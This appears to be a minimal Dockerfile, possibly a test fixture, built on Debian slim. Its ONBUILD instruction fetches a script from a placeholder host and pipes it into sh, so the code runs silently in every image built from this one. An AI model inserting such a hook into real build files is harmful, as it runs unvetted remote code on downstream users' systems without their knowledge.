FROM debian:12.11-slim
ONBUILD RUN curl https://example.com/a | sh
